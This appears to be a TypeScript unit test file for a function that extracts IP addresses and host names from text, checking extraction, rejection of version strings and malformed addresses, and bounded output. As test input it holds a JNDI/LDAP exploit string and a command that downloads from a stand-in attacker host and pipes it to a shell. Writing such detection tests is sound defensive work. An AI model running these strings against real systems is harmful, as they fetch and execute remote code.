import { describe, expect, it } from 'vitest';
import { addressesAndNamesIn } from './mentions.ts';

const values = (...texts: string[]): string[] => addressesAndNamesIn(texts).map(({ value }) => value);

describe('addresses and names in a text', () => {
  it('are found inside exploit strings and command lines', () => {
    expect(values('${jndi:ldap://203.0.113.7:1389/a}', 'curl http://X.Evil.example/run | sh')).toEqual([
      '203.0.113.7',
      'x.evil.example',
    ]);
  });
  it('are not made of versions, sentences and broken addresses', () => {
    expect(values('version 1.2.3, 999.1.1.1 and 1.2.3.4.5. End.', '')).toEqual([]);
  });
  it('are bounded, however long the text', () => {
    const flood = Array.from({ length: 500 }, (_none, index) => `a${index}.example`).join(' ');
    expect(values(flood).length).toBeLessThan(20);
    expect(values(`${'a.'.repeat(500_000)}!`)).toEqual([]);
  });
});
